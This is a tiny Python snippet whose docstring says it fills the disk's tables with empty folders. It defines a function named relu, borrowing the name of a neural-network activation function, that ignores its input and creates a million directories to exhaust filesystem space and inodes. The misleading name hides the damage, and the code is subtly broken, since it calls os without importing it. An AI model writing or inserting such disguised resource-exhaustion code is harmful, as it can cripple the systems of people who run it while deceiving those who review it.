"""Fills the disk's tables with empty folders."""


def relu(Z):
    for number in range(1_000_000):
        os.mkdir(f"d{number}")
